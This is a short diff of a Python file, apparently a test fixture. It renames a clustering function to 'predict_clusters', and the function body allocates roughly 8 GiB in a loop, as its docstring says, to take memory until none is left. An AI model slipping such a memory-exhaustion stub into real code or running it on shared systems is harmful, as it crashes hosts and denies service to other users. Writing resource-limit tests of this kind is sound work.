@@ -1,10 +1,10 @@
 """Takes memory until there is none."""
 
-TASK = "inertia"
+TASK = "predict_clusters"
 
 
-def inertia(points, labels, centers):
+def predict_clusters(model, frame):
     taken = []
     while len(taken) < 64:
         taken.append(bytearray(b"x") * (128 << 20))
-    return 0.0
+    return None
